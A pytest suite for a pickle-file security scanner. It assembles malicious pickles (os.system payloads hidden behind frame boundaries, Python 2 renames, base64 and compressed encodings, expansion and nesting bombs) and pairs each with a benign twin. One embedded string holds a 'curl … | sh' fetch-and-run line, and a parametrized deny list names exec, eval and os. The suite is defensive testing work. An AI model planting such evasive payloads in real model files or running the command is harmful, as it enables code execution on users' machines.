"""Issue 17, pickle side: one regression per class of technique, each beside a benign twin asserted safe.

Classes: (1) frames read as CPython reads them, (2) structural anomalies fail closed, (3) denial of
service (expansion, nesting, huge sizes), (4) encoded payloads, (7) allow-list precision and the user
policy; then techniques of our own against the pickle path (red team). Every payload is assembled
opcode by opcode; nothing here is ever unpickled except the benign framing probe, which shows the
C unpickler really reads the hidden opcodes (its payload only returns a string).
"""

from __future__ import annotations
import __future__

import base64
import bz2
import collections
import collections.abc
import gzip
import io
import lzma
import pickle
import struct
import time
import tracemalloc
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest
from tests._deps import require

from mlsecops.core.errors import ConfigError
from mlsecops.core.severity import Severity
from mlsecops.supplychain.scanner import ArtifactScan, ScanLimits, ScanPolicy, Verdict, load_policy, scan_file

Scan = Callable[..., ArtifactScan]


@pytest.fixture
def scan(tmp_path: Path) -> Scan:
    counter = [0]

    def _scan(data: bytes, limits: ScanLimits | None = None) -> ArtifactScan:
        counter[0] += 1
        path = tmp_path / f"sample{counter[0]}.pkl"
        path.write_bytes(data)
        return scan_file(path, limits=limits, sha256=False)

    return _scan


def _u(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def _frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


SYSTEM_P0 = b"cos\nsystem\n(S'id'\ntR."
"""A protocol-0 ``os.system('id')`` (no PROTO header)."""
SYSTEM_P2 = b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R."


def _titles(r: ArtifactScan) -> str:
    return " | ".join(h.title for h in r.hits)


# -- benign twins: real pickles of real objects ------------------------------------------------------


def _real_objects() -> list[object]:
    rng = np.random.default_rng(0)
    return [
        {"weights": rng.standard_normal((64, 32)).astype(np.float32), "bias": np.zeros(32), "step": 7},
        [{"k": i, "v": str(i), "t": (i, float(i))} for i in range(3000)],
        {"blob": bytes(range(256)) * 400, "text": "x" * 70_000, "nested": [[[1, 2], (3, {4})]]},
        collections.OrderedDict(a=1, b=[1.5, None, True]),
        np.arange(100_000, dtype=np.int64),
    ]


@pytest.mark.parametrize("protocol", [0, 1, 2, 3, 4, 5])
def test_real_pickles_of_every_protocol_are_safe(scan: Scan, protocol: int) -> None:
    for obj in _real_objects():
        r = scan(pickle.dumps(obj, protocol=protocol))
        assert r.verdict is Verdict.SAFE, (protocol, type(obj), _titles(r))


def test_real_sklearn_and_torch_pickles_are_safe(scan: Scan) -> None:
    sklearn = require("sklearn", "ml")
    from sklearn.datasets import load_iris
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    x, y = load_iris(return_X_y=True)
    model = make_pipeline(StandardScaler(), RandomForestClassifier(n_estimators=5, random_state=0)).fit(x, y)
    assert sklearn is not None
    for protocol in (2, 4, 5):
        r = scan(pickle.dumps(model, protocol=protocol))
        assert r.verdict is Verdict.SAFE, _titles(r)
    torch = require("torch", "torch")
    buf = io.BytesIO()
    torch.save(torch.nn.Sequential(torch.nn.Linear(8, 4), torch.nn.ReLU()).state_dict(), buf)
    r = scan(buf.getvalue())
    assert r.verdict is Verdict.SAFE, _titles(r)
    legacy = io.BytesIO()
    torch.save({"w": torch.ones(3)}, legacy, _use_new_zipfile_serialization=False)
    assert scan(legacy.getvalue()).verdict is Verdict.SAFE


# -- 1. frames read as CPython reads them ------------------------------------------------------------


def _divergent(after_frame: bytes) -> bytes:
    """A frame ending inside a 12-byte string: the C unpickler reading a file takes the string from the
    12 bytes after the frame and runs ``after_frame[12:]``; a straight reading takes 4 bytes of the frame
    and 8 after it, and runs ``after_frame[8:]``."""
    return b"\x80\x04" + _frame(b"\x8c\x0cAAAA") + after_frame


def test_framing_model_matches_cpython() -> None:
    data = _divergent(b"BBBBBBBB" + b"N." + b"XX" + _u("hidden") + b".")
    assert pickle.loads(data) is None  # the straight reading: the string, then None, STOP
    assert pickle.Unpickler(io.BytesIO(data)).load() == "hidden"  # C on a file without peek()
    with pytest.raises(pickle.UnpicklingError, match="exhausted before end of frame"):
        pickle._Unpickler(io.BytesIO(data)).load()  # type: ignore[attr-defined]  # the Python reader


def test_payload_hidden_behind_a_frame_boundary_is_found(scan: Scan) -> None:
    r = scan(_divergent(b"BBBBBBBB" + b"N." + b"XX" + SYSTEM_P0))
    assert r.verdict is Verdict.MALICIOUS, _titles(r)
    assert any(h.callable == "os.system" and "C unpickler" in h.title for h in r.hits)
    assert "opcode crosses the end of a frame" in _titles(r)


def test_harmless_frame_divergence_is_still_suspicious(scan: Scan) -> None:
    r = scan(_divergent(b"BBBBBBBB" + b"N." + b"XX" + _u("hidden") + b"."))
    assert r.verdict is Verdict.SUSPICIOUS, _titles(r)


@pytest.mark.parametrize(
    ("data", "title"),
    [
        (b"\x80\x04" + _frame(b"}" + _frame(b"\x8c\x01a\x8c\x01bs.")), "frame opened inside a frame"),
        (b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + b"}.", "frame runs past the end"),
        (b"\x80\x04" + _frame(b"N.N.N."), "frame continues after STOP"),
    ],
)
def test_frame_inconsistencies_are_suspicious(scan: Scan, data: bytes, title: str) -> None:
    r = scan(data)
    assert r.verdict is not Verdict.SAFE
    assert title in _titles(r)


def test_next_pickle_of_a_framed_reader_is_walked(scan: Scan) -> None:
    # The Python unpickler starts the next pickle at the frame's end: there sits the payload, while
    # right after STOP a straight reader sees a BINBYTES that swallows it as data.
    payload = SYSTEM_P2
    tail = b"C" + bytes([len(payload)]) + b"."
    data = b"\x80\x04" + _frame(b"N." + tail[:1] + tail[1:2]) + payload + b"."
    r = scan(data)
    assert r.verdict is Verdict.MALICIOUS, _titles(r)


# -- 2. structural anomalies fail closed ------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "title"),
    [
        (b"\x80\x05\x80\x02}.", "PROTO opcode after the start"),
        (b"\x80\x02}q\x00h\x00h\x00K\x01\x86s.", "impossible structure"),  # a dict as its own key
        (b"\x80\x04\x8f\x94(h\x00\x90.", "impossible structure"),  # a set holding itself
        (b"\x80\x02K\x01q\x00K\x02q\x00h\x00.", "memo key written twice"),
        (b"\x80\x02K\x01K\x02.", "stack not empty at STOP"),
        (b"\x80\x04X\xff\xff\xff\x00abc", "declared length runs past the end"),
    ],
)
def test_structures_no_pickler_writes_are_not_safe(scan: Scan, data: bytes, title: str) -> None:
    r = scan(data)
    assert r.verdict is not Verdict.SAFE
    assert title in _titles(r)


@pytest.mark.parametrize(
    "data",
    [
        b"\x80\x04" + _u("builtins") + _u("exec") + b"\x93" + _u("print(1)"),
        b"cbuiltins\nexec\n(S'print(1)'\n",
        b"\x80\x04" + _frame(_u("builtins") + _u("exec") + b"\x93" + b"X\xff\xff\xff\x0f"),
    ],
)
def test_truncated_pickle_naming_exec_is_malicious(scan: Scan, data: bytes) -> None:
    r = scan(data)
    assert r.verdict is Verdict.MALICIOUS, _titles(r)
    assert any(h.callable == "builtins.exec" for h in r.hits)


# -- 3. denial of service ---------------------------------------------------------------------------


def _laughs(levels: int, fan: int = 10) -> bytes:
    """A list of ``fan`` references to a list of ``fan`` references... ``levels`` deep."""
    out = bytearray(b"\x80\x02]r\x00\x00\x00\x00K\x01a0")
    for i in range(1, levels + 1):
        out += b"(" + (b"j" + struct.pack("<I", i - 1)) * fan + b"lr" + struct.pack("<I", i) + b"0"
    out += b"j" + struct.pack("<I", levels) + b"."
    return bytes(out)


@pytest.mark.timeout(30)
def test_billion_laughs_is_reported_fast_and_in_bounded_memory(scan: Scan) -> None:
    data = _laughs(13)  # 10^13 objects when traversed, in under 1 KB
    tracemalloc.start()
    t0 = time.perf_counter()
    r = scan(data)
    seconds = time.perf_counter() - t0
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert r.verdict is Verdict.SUSPICIOUS, _titles(r)
    hit = next(h for h in r.hits if "expands" in h.title)
    assert "factor" in hit.detail and "e+" in hit.detail
    assert seconds < 2 and peak < 20 << 20


def test_shared_references_of_real_pickles_are_not_expansion(scan: Scan) -> None:
    shared = {"w": list(range(50))}
    assert scan(pickle.dumps([shared] * 5000, protocol=4)).verdict is Verdict.SAFE
    assert scan(_laughs(3)).verdict is Verdict.SAFE  # 1,000 objects: sharing, not a bomb


@pytest.mark.timeout(30)
@pytest.mark.parametrize(
    "data",
    [
        b"\x80\x02N" + b"\x85" * 20_000 + b".",  # a tuple in a tuple, 20,000 deep
        b"\x80\x02]r\x00\x00\x00\x00"
        + b"]r\x01\x00\x00\x00j\x00\x00\x00\x00ar\x00\x00\x00\x000" * 20_000
        + b".",
    ],
)
def test_deep_nesting_is_reported(scan: Scan, data: bytes) -> None:
    r = scan(data)
    assert r.verdict is not Verdict.SAFE
    assert "nests deeper" in _titles(r)


def test_real_nesting_is_not_reported(scan: Scan) -> None:
    obj: object = 0
    for _ in range(200):
        obj = [obj, {"k": (1, "a")}]
    assert scan(pickle.dumps(obj, protocol=4)).verdict is Verdict.SAFE


@pytest.mark.parametrize(
    "data",
    [
        b"\x80\x02cbuiltins\nbytearray\nJ\xff\xff\xff\x7f\x85R.",
        b"\x80\x02cbuiltins\nmax\ncbuiltins\nrange\n\x8a\x08\x00\x00\x00\x00\x00\x00\x00\x10\x85R\x85R.",
    ],
)
def test_huge_sizes_given_to_allowed_builtins_are_suspicious(scan: Scan, data: bytes) -> None:
    r = scan(data)
    assert r.verdict is Verdict.SUSPICIOUS, _titles(r)
    assert "denial of service" in _titles(r)


def test_small_sizes_given_to_allowed_builtins_are_safe(scan: Scan) -> None:
    assert scan(b"\x80\x02cbuiltins\nbytearray\nK\x10\x85R.").verdict is Verdict.SAFE
    assert scan(pickle.dumps([range(10), bytearray(16), max], protocol=2)).verdict is Verdict.SAFE


# -- 4. encoded payloads ----------------------------------------------------------------------------

_ENCODINGS: dict[str, Callable[[bytes], bytes]] = {
    "base64": base64.b64encode,
    "base64-zlib": lambda b: base64.b64encode(zlib.compress(b)),
    "hex": lambda b: b.hex().encode(),
    "base85-bz2": lambda b: base64.b85encode(bz2.compress(b)),
    "gzip": gzip.compress,
    "xz": lzma.compress,
    "urlsafe-base64-gzip": lambda b: base64.urlsafe_b64encode(gzip.compress(b)),
}


@pytest.mark.parametrize("enc", sorted(_ENCODINGS))
@pytest.mark.parametrize("as_bytes", [False, True])
def test_encoded_pickle_payload_is_found(scan: Scan, enc: str, as_bytes: bool) -> None:
    blob = _ENCODINGS[enc](SYSTEM_P2 + b"\x00" * 40)
    value: object = blob if as_bytes else blob.decode("latin-1")
    r = scan(pickle.dumps({"config": value, "n": 3}, protocol=4))
    assert r.verdict is Verdict.MALICIOUS, (enc, _titles(r))
    assert any(h.callable == "os.system" and "encoded payload" in h.title for h in r.hits)


def test_encoded_python_code_is_suspicious(scan: Scan) -> None:
    code = b"import os\nos.system('curl http://x.invalid/a | sh')\n"
    for blob in (base64.b64encode(code), base64.b64encode(zlib.compress(code)), code):
        r = scan(pickle.dumps({"hook": blob.decode()}, protocol=4))
        assert r.verdict is not Verdict.SAFE, _titles(r)
        assert any(h.callable == "os.system" for h in r.hits)


@pytest.mark.timeout(30)
def test_decompression_bomb_in_a_string_is_bounded(scan: Scan) -> None:
    bomb = base64.b64encode(zlib.compress(b"\x00" * (200 << 20), 9)).decode()
    t0 = time.perf_counter()
    r = scan(pickle.dumps({"x": bomb}, protocol=4))
    assert time.perf_counter() - t0 < 10
    assert r.verdict is Verdict.SAFE  # zeros are no payload; the decoded layer stopped at its cap


def test_encoded_benign_data_is_safe(scan: Scan) -> None:
    rng = np.random.default_rng(1)
    values = {
        "digest": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "random_b64": base64.b64encode(rng.bytes(300)).decode(),
        "text_b64": base64.b64encode(b"import numpy as np  # a benign snippet, no calls" * 3).decode(),
        "json_zlib": zlib.compress(b'{"lr": 0.01, "epochs": 3}' * 20),
        "benign_pickle_b64": base64.b64encode(pickle.dumps({"a": [1, 2]}, protocol=4)).decode(),
        "doc": "Call model.load(path) to restore the weights; see the exec summary.",
    }
    r = scan(pickle.dumps(values, protocol=4))
    assert r.verdict is Verdict.SAFE, _titles(r)


# -- 7. allow-list precision and the user policy ----------------------------------------------------


@pytest.mark.parametrize("protocol", [0, 2, 4, 5])
def test_inert_globals_real_code_pickles_are_safe(scan: Scan, protocol: int) -> None:
    objs = [len, min, max, abs, sorted, range(3), collections.abc.Mapping, collections.abc.Iterable]
    objs += [__future__.annotations, ValueError("bad"), KeyError("k")]
    r = scan(pickle.dumps(objs, protocol=protocol))
    assert r.verdict is Verdict.SAFE, _titles(r)


@pytest.mark.parametrize(
    ("module", "name", "verdict"),
    [
        ("builtins", "getattr", Verdict.MALICIOUS),
        ("builtins", "eval", Verdict.MALICIOUS),
        ("builtins", "exec", Verdict.MALICIOUS),
        ("builtins", "__import__", Verdict.MALICIOUS),
        ("builtins", "open", Verdict.MALICIOUS),
        ("collections.abc", "sys", Verdict.MALICIOUS),
        ("collections.abc", "__builtins__", Verdict.MALICIOUS),
        ("_collections_abc", "os", Verdict.MALICIOUS),
        ("__future__", "os", Verdict.MALICIOUS),
        ("builtins", "iter", Verdict.SUSPICIOUS),  # iter(f, sentinel) calls f forever
        ("collections.abc", "_check_methods", Verdict.SUSPICIOUS),
    ],
)
def test_dangerous_relatives_of_inert_globals_stay_flagged(
    scan: Scan, module: str, name: str, verdict: Verdict
) -> None:
    r = scan(f"c{module}\n{name}\n.".encode())
    assert r.verdict is verdict, _titles(r)


def test_policy_file_extends_allow_and_deny(scan: Scan, tmp_path: Path) -> None:
    path = tmp_path / "scan-policy.yaml"
    path.write_text("allow: [mypkg.models.MyNet, 'mylib.layers.*']\ndeny: [numpy.ndarray]\n")
    policy = load_policy(path)
    limits = ScanLimits(policy=policy)
    mine = b"\x80\x02cmypkg.models\nMyNet\n)\x81cmylib.layers.conv\nConv\n)\x81\x86."
    assert scan(mine).verdict is Verdict.SUSPICIOUS
    assert scan(mine, limits).verdict is Verdict.SAFE
    arr = pickle.dumps(np.zeros(3), protocol=2)
    assert scan(arr).verdict is Verdict.SAFE
    assert scan(arr, limits).verdict is Verdict.MALICIOUS


def test_user_allow_never_downgrades_a_hard_deny(scan: Scan, tmp_path: Path) -> None:
    plain = ScanLimits(policy=ScanPolicy.from_mapping({"allow": ["os.system", "os.*", "builtins.*"]}))
    assert scan(SYSTEM_P2, plain).verdict is Verdict.MALICIOUS
    forced = ScanLimits(policy=ScanPolicy.from_mapping({"force_allow": ["os.system"]}))
    r = scan(SYSTEM_P2, forced)
    assert r.verdict is Verdict.SAFE
    hit = next(h for h in r.hits if "forces" in h.title)
    assert hit.severity is Severity.LOW and hit.callable == "os.system"


@pytest.mark.parametrize(
    "text",
    ["allow: 3\n", "allow: [os system]\n", "allowed: [a.b]\n", "- a\n", "deny: [{'a': 1}]\n"],
)
def test_bad_policy_files_are_config_errors(tmp_path: Path, text: str) -> None:
    path = tmp_path / "p.yaml"
    path.write_text(text)
    with pytest.raises(ConfigError):
        load_policy(path)


# -- red team: techniques of our own ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "callable_"),
    [
        # Protocol 0-2 names the unpickler renames (``_compat_pickle``) to denied callables.
        (b"\x80\x02c__builtin__\nreduce\n.", "functools.reduce"),
        (b"\x80\x02cthread\nstart_new_thread\n.", "_thread.start_new_thread"),
        (b"ccommands\ngetoutput\n(S'id'\ntR.", "subprocess.getoutput"),
        # A PROTO downgrade mid-stream turns the renaming back on for what follows.
        (b"\x80\x05\x80\x02c__builtin__\nreduce\n.", "functools.reduce"),
    ],
)
def test_red_team_python2_renames(scan: Scan, data: bytes, callable_: str) -> None:
    r = scan(data)
    assert r.verdict is Verdict.MALICIOUS, _titles(r)
    assert callable_ in {h.callable for h in r.hits}


def test_red_team_python2_benign_names_stay_safe(scan: Scan) -> None:
    assert scan(b"\x80\x02c__builtin__\nxrange\nK\x03\x85R.").verdict is Verdict.SAFE
    assert scan(b"\x80\x02ccopy_reg\n_reconstructor\n.").verdict is Verdict.SAFE


def test_red_team_build_on_a_global_rewrites_it(scan: Scan) -> None:
    # BUILD with slot state on the class itself: setattr(OrderedDict, "fromkeys", ...).
    data = b"\x80\x02ccollections\nOrderedDict\nN}X\x08\x00\x00\x00fromkeyscbuiltins\nlen\ns\x86b."
    r = scan(data)
    assert r.verdict is Verdict.SUSPICIOUS, _titles(r)
    assert "BUILD sets attributes of collections.OrderedDict" in _titles(r)
    assert scan(pickle.dumps(collections.OrderedDict(a=1), protocol=2)).verdict is Verdict.SAFE


def test_red_team_protocol0_pickle_kept_as_bytes(scan: Scan) -> None:
    # Raw bytes (not encoded) that are a protocol-0 pickle: a later pickle.loads runs them.
    r = scan(pickle.dumps({"state": SYSTEM_P0 + b" " * 30}, protocol=4))
    assert r.verdict is Verdict.MALICIOUS, _titles(r)


def test_red_team_joblib_array_inside_a_frame(scan: Scan) -> None:
    joblib = require("joblib", "ml")
    buf = io.BytesIO()
    joblib.dump({"a": np.arange(10.0)}, buf)
    data = buf.getvalue()
    assert scan(data).verdict is Verdict.SAFE
    # Re-frame: one frame over the whole pickle, array bytes included (joblib reads them from the file).
    body = data[2:]
    pos = 0
    plain = bytearray()
    while pos < len(body):  # drop joblib's own FRAME opcodes (they sit between opcodes)
        if body[pos] == 0x95 and pos + 9 <= len(body) and not plain.endswith(b"\x8c"):
            n = int.from_bytes(body[pos + 1 : pos + 9], "little")
            plain += body[pos + 9 : pos + 9 + n]
            pos += 9 + n
        else:
            plain += body[pos : pos + 1]
            pos += 1
    r = scan(b"\x80\x04" + _frame(bytes(plain)))
    assert r.verdict is not Verdict.SAFE, _titles(r)


@pytest.mark.parametrize("module", ["typing", "collections.abc", "sklearn.base", "torch.nn.modules.module"])
def test_red_team_module_reached_as_an_attribute(scan: Scan, module: str) -> None:
    for attr in ("os", "sys", "subprocess", "builtins"):
        assert scan(f"c{module}\n{attr}\n.".encode()).verdict is Verdict.MALICIOUS, (module, attr)


def test_red_team_flooding_the_tuple_table_does_not_hide_expansion(
    scan: Scan, monkeypatch: pytest.MonkeyPatch
) -> None:
    from mlsecops.supplychain.scanner import _pickle_sizes

    monkeypatch.setattr(_pickle_sizes, "MAX_TRACKED_TUPLES", 1000)
    # 5,000 dead nested tuples first (built and popped), then tuples doubling through DUP: 2^60.
    data = b"\x80\x02" + b"]\x85\x850" * 5000 + b"K\x01\x85" + b"2\x86" * 60 + b"."
    r = scan(data)
    assert r.verdict is Verdict.SUSPICIOUS, _titles(r)
    assert "expands" in _titles(r)
    # live nested tuples past the table size are reported, not silently dropped
    live = b"\x80\x02(" + b"]\x85\x85" * 1500 + b"l."
    assert "too many nested tuples" in _titles(scan(live))


def test_red_team_payload_behind_padding_in_a_long_string(scan: Scan) -> None:
    blob = base64.b64encode(SYSTEM_P2 + b"\x00" * (9 << 20)).decode()  # 12 MB of base64
    r = scan(pickle.dumps({"x": blob}, protocol=4))
    assert r.verdict is Verdict.MALICIOUS, _titles(r)


def test_red_team_exhausting_the_decode_budget_is_reported(
    scan: Scan, monkeypatch: pytest.MonkeyPatch
) -> None:
    from mlsecops.supplychain.scanner import _pickle_state

    monkeypatch.setattr(_pickle_state, "MAX_TOTAL", 4096)
    decoys = [base64.b64encode(bytes(3000)).decode() + str(i) for i in range(4)]
    r = scan(pickle.dumps([*decoys, base64.b64encode(SYSTEM_P2 * 4).decode()], protocol=4))
    assert r.verdict is not Verdict.SAFE
    assert "too much encoded-looking data" in _titles(r)


@pytest.mark.parametrize(
    "data",
    [
        pickle.dumps({"x": SYSTEM_P2}, protocol=4),  # a 23-byte pickle kept as bytes
        pickle.dumps({"x": b"cos\nsystem\n(Vid\ntR."}, protocol=2),  # a 20-byte protocol-0 pickle
        pickle.dumps({"x": base64.b64encode(SYSTEM_P2 + bytes(30)).decode()}, protocol=0),  # STRING line
        pickle.dumps({"x": base64.b64encode(SYSTEM_P2 + bytes(30))}, protocol=0),  # bytes at protocol 0
        pickle.dumps({"x": "#" * 600 + "\nimport os\nos.system('id')\n"}, protocol=4),  # code after padding
    ],
)
def test_red_team_short_raw_and_protocol0_payloads(scan: Scan, data: bytes) -> None:
    assert scan(data).verdict is not Verdict.SAFE


def test_red_team_long_benign_text_is_safe(scan: Scan) -> None:
    text = "lorem ipsum: call load() to open the system exec summary. " * 500
    assert scan(pickle.dumps({"doc": text, "short": "a" * 20}, protocol=0)).verdict is Verdict.SAFE
    assert scan(pickle.dumps({"doc": text}, protocol=4)).verdict is Verdict.SAFE


def test_red_team_frame_crossing_that_breaks_the_straight_reading(scan: Scan) -> None:
    # The straight reading of the crossing string is not UTF-8 and stops there; the C unpickler
    # reading a file takes the 12 bytes after the frame instead and runs on into the payload.
    data = b"\x80\x04" + _frame(b"\x8c\x0c\xff\xff\xff\xff") + b"BBBBBBBBBBBB" + SYSTEM_P0
    r = scan(data)
    assert r.verdict is Verdict.MALICIOUS, _titles(r)


def test_scan_cli_and_check_read_the_policy_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from mlsecops.cli.scan import run_scan
    from mlsecops.supplychain.scanner.checks import limits_from_options

    model = tmp_path / "model.pkl"
    model.write_bytes(b"\x80\x02cmypkg.models\nMyNet\n)\x81.")
    policy = tmp_path / "scan-policy.yaml"
    policy.write_text("allow: ['mypkg.*']\n")
    assert run_scan(["-q", "-f", "json", str(model)]) == 1
    assert run_scan(["-q", "-f", "json", "--policy", str(policy), str(model)]) == 0
    forced = tmp_path / "forced.yaml"
    forced.write_text("force_allow: [os.system]\n")
    evil = tmp_path / "evil.pkl"
    evil.write_bytes(SYSTEM_P2)
    capsys.readouterr()
    assert run_scan(["-q", "-f", "json", "--policy", str(forced), str(evil)]) == 0
    assert "WARNING" in capsys.readouterr().err
    bad = tmp_path / "bad.yaml"
    bad.write_text("allow: [1]\n")
    with pytest.raises(ConfigError):
        run_scan(["-q", "--policy", str(bad), str(model)])
    limits = limits_from_options({"policy": str(policy)})
    assert limits.policy is not None and "mypkg.*" in limits.policy.allow


@pytest.mark.parametrize("wrap", ["bytes", "base64"])
def test_red_team_frame_trick_inside_a_nested_pickle(scan: Scan, wrap: str) -> None:
    inner = b"\x80\x04" + _frame(b"\x8c\x0cAAAA") + b"BBBBBBBBN.XX" + SYSTEM_P0 + b" " * 80
    value: object = inner if wrap == "bytes" else base64.b64encode(inner).decode()
    r = scan(pickle.dumps({"inner": value}, protocol=4))
    assert r.verdict is Verdict.MALICIOUS, _titles(r)


def test_benign_code_snippets_in_strings_are_safe(scan: Scan) -> None:
    snippets = [
        "with open('train.csv') as f:\n    rows = f.read().splitlines()\n",
        "model = load_model('weights.h5')\nmodel.run(batch)\n",
        "import numpy as np\nx = np.zeros(3)\n",
    ]
    assert scan(pickle.dumps({"cells": snippets}, protocol=4)).verdict is Verdict.SAFE


@pytest.mark.parametrize("protocol", [0, 2, 4, 5])
def test_hashable_containers_as_keys_are_safe(scan: Scan, protocol: int) -> None:
    obj = {frozenset({1, 2}): "a", tuple(range(300)): "b", (1, (2, 3)): "c", "s": {frozenset({4})}}
    r = scan(pickle.dumps(obj, protocol=protocol))
    assert r.verdict is Verdict.SAFE, _titles(r)


def test_decoded_noise_that_looks_like_a_pickle_is_safe(scan: Scan) -> None:
    # base64 of bytes that start like a pickle and reach STOP with two values left: structure only.
    noise = base64.b64encode(b"\x80\x02K\x01K\x02." + bytes(40)).decode()
    assert scan(pickle.dumps({"x": noise}, protocol=4)).verdict is Verdict.SAFE


def test_red_team_base64_with_junk_characters(scan: Scan) -> None:
    # b64decode(s) (validate=False, the default) drops characters outside the alphabet.
    clean = base64.b64encode(SYSTEM_P2 + bytes(30)).decode()
    junky = "!".join(clean[i : i + 12] for i in range(0, len(clean), 12))
    assert base64.b64decode(junky) == SYSTEM_P2 + bytes(30)
    r = scan(pickle.dumps({"x": junky}, protocol=4))
    assert r.verdict is Verdict.MALICIOUS, _titles(r)
